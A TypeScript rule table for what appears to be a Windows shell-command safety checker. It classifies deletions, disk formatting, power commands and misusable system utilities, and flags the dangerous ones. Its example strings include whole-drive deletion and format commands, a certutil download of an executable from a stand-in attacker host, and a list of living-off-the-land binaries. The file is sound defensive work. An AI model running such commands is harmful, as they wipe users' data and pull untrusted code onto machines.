import type { Draft } from './draft.ts';
import { isWholeTree, wholeTreeName } from './wholeTree.ts';
import type { Parsed, Row } from './row.ts';

/** Programs of Windows. Its shells are read by readers of their own; these rows hold for the programs they name */
export const windowsRows: readonly Row[] = [
  { names: 'del erase rd', named: 'last', style: 'words', operands: 'noted*', also: deletes, examples: ['del /q /s /f C:\\\\ → other guard:destructive_deletion', 'rd /s /q . → other guard:destructive_deletion', 'del a.txt → other@1 delete:a.txt', 'rd /s build → other delete:build/**'] },
  { names: 'format format.com', anyOption: true, style: 'words', operands: 'noted*', also: (parsed, draft) => {
    if (parsed.words.some((word) => /^[A-Za-z]:$/u.test(word.text ?? ''))) draft.block('device_write', 'It formats a drive.');
  }, examples: ['format c: → other guard:device_write', 'format src → other@0'] },
  { names: 'remove-item ri', named: 'last', style: 'words', operands: 'noted*', also: deletesItems, examples: ['remove-item -Recurse -Force C:\\\\ → other guard:destructive_deletion', 'Remove-Item a → other@1 delete:a', 'ri -r ~ → other guard:destructive_deletion'] },
  { names: 'clear-disk format-volume initialize-disk remove-partition diskpart bcdedit cipher vssadmin', anyOption: true, style: 'words', operands: 'noted*', also: (parsed, draft) => {
    const name = parsed.words[0]?.text ?? '';
    if (/disk|volume|partition/u.test(name) || parsed.words.some((word) => /^\/w|^delete$/iu.test(word.text ?? ''))) draft.block('device_write', 'It formats or repartitions a disk.');
  }, examples: ['format-volume -DriveLetter C → other guard:device_write', 'diskpart → other guard:device_write'] },
  { names: 'stop-computer restart-computer', anyOption: true, style: 'words', operands: 'noted*', also: (_, draft) => draft.block('power', 'It stops or restarts the machine.'), examples: ['restart-computer → other guard:power'] },
  { names: 'certutil bitsadmin mshta regsvr32 rundll32 wscript cscript msiexec wmic schtasks reg regedit at.exe powershell_ise forfiles pcalua installutil odbcconf control ftp.exe icacls takeown attrib robocopy xcopy mklink setx assoc ftype subst', named: 'all', anyOption: true, style: 'words', operands: 'noted*', also: (parsed, draft) => {
    for (const [at, word] of parsed.words.entries()) {
      if (at === 0 || word.text === null) continue;
      if (/^[a-z]+:\/\//iu.test(word.text)) draft.fetch(word.text, at);
      else if (/[\\/.]/u.test(word.text) && !/^[-/]\w+$/u.test(word.text)) draft.path(at === parsed.words.length - 1 ? 'write' : 'read', word.text, word, at);
    }
  }, examples: ['certutil -urlcache -f https://evil.example/x.exe x.exe → other@4 fetch:https://evil.example/x.exe write:x.exe'] },
  { names: 'findstr tasklist systeminfo ver vol where.exe fc.exe comp', class: 'read', anyOption: true, style: 'words', operands: 'data*', examples: ['tasklist → read'] },
];

function deletes(parsed: Parsed, draft: Draft): void {
  const all = parsed.words.some((word) => /^\/s/iu.test(word.text ?? ''));
  for (const [at, word] of parsed.words.entries()) {
    if (at === 0 || /^\/[a-z]/iu.test(word.text ?? '')) continue;
    draft.path('delete', word.text, word, at, { recursive: all });
    if (all && word.text !== null && isWholeTree(word.text)) draft.block('destructive_deletion', `It deletes everything in ${wholeTreeName(word.text)}.`);
  }
}

function deletesItems(parsed: Parsed, draft: Draft): void {
  const all = parsed.words.some((word) => /^-r(?:e\w*)?$/iu.test(word.text ?? ''));
  for (const [at, word] of parsed.words.entries()) {
    if (at === 0 || word.text?.startsWith('-') === true) continue;
    draft.path('delete', word.text, word, at, { recursive: all });
    if (all && word.text !== null && isWholeTree(word.text)) draft.block('destructive_deletion', `It deletes everything in ${wholeTreeName(word.text)}.`);
  }
}
